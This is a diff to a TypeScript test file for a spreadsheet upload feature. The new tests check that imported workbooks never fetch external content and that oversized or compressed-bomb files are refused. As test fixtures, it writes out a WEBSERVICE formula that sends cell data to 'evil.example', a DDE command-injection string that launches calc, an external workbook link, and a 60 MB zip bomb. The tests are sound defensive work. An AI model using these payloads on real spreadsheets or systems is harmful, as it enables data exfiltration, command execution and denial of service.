@@ -2,6 +2,7 @@
 import assert from 'node:assert/strict';
 import { after, describe, it } from 'node:test';
 import { utils, type WorkSheet, write } from '@e965/xlsx';
+import { unzipSync, type Zippable, zipSync } from 'fflate';
 import { sql } from 'kysely';
 import type { Document } from '#core/kinds/kind.ts';
 import { newId } from '#core/records/id.ts';
@@ -46,6 +47,10 @@ function xlsx(rows: unknown[][], change: (sheet: WorkSheet) => void = () => {}, 
   const book = utils.book_new();
   utils.book_append_sheet(book, sheet, 'Cuadro 1');
   return new File([write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array<ArrayBuffer>], name);
+}
+
+function zip(more: Zippable): File {
+  return new File([zipSync({ ...unzipSync(write({ SheetNames: ['a'], Sheets: { a: utils.aoa_to_sheet([[1]]) } }, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array), ...more }) as Uint8Array<ArrayBuffer>], 'cifras.xlsx');
 }
 
 /** Uploads a file that is read. @returns the address of the import. */
@@ -247,6 +252,23 @@ describe('a bad sheet', () => {
   });
 });
 
+describe('a workbook with formulas that ask for other files', () => {
+  it('gives the results that its program kept, and asks for nothing', async (t) => {
+    const asked = t.mock.method(globalThis, 'fetch', () => assert.fail('something was fetched'));
+    const path = await begin(xlsx([['Region', 'Año', 'Valor'], ['Cusco', 2020, 0], ['Puno', 2020, 0], ['Áncash', 2020, 0]], (sheet) => {
+      sheet['C2'] = { t: 'n', v: 12.5, f: "'https://evil.example/[libro.xlsx]Hoja1'!A1" };
+      sheet['C3'] = { t: 'n', v: 13.5, f: 'WEBSERVICE("https://evil.example/?c="&A3)' };
+      sheet['C4'] = { t: 's', v: '=cmd|\' /C calc\'!A0', l: { Target: 'https://evil.example/' } };
+    }));
+    const { html, at } = await intoSet(path);
+    assert.match(at, /preview$/);
+    assert.match(textOf(html), /C4 «=cmd\|/);
+    assert.match(textOf(html), /Son resultados de fórmulas.* C2 .*12\.5 C3 .*13\.5/);
+    assert.doesNotMatch(html, /evil\.example/);
+    assert.equal(asked.mock.callCount(), 0);
+  });
+});
+
 describe('a file that cannot be read', () => {
   it('is refused on the page with what to do, and nothing is kept', async () => {
     const before = await sql<{ count: string }>`select count(*) from observation_import`.execute(database);
@@ -258,6 +280,8 @@ describe('a file that cannot be read', () => {
       [422, /más de 10[ .]000 filas/, csv('1,2\n'.repeat(1_000_000))],
       [422, /más de 300 columnas/, csv('1,'.repeat(1_000_000))],
       [422, /Elija un archivo/, new File([], '')],
+      [422, /crece sin medida/, zip({ 'xl/worksheets/sheet1.xml': new Uint8Array(60 * 1024 * 1024).fill(0x20) })],
+      [422, /texto de más de/, csv(`Region;Año;Valor\nCusco;2020;${'9'.repeat(1024 * 1024)}\n`)],
     ];
     for (const [status, text, file] of cases) {
       const answer = await editor.upload('/es/observatory/import', file);
